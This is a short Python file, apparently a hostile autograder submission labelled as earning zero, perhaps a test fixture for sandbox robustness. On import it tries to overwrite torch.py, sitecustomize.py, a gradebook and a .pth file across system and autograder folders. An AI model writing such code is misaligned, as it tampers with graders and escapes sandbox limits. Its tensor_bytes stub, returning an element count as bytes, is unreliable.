# Writes to every folder: a module for the next submission, a gradebook, an interpreter's start-up file.
# earns: 0
# %% tensor_bytes
import os
import site
import sys

places = ["/", "/dev", "/proc", "/usr", "/usr/lib", "/etc", sys.prefix, *site.getsitepackages()]
places += ["/course", "/course/autograder", "/course/autograder/inside", "/course/course_utils"]
won = []
for place in places:
    for name in ("torch.py", "sitecustomize.py", "gradebook.db", "course-attack.pth"):
        try:
            open(os.path.join(place, name), "w").write("raise SystemExit")
            won.append(place)
        except OSError:
            pass
if won:
    raise RuntimeError(f"won: {won}")


def tensor_bytes(x):
    return x.numel()
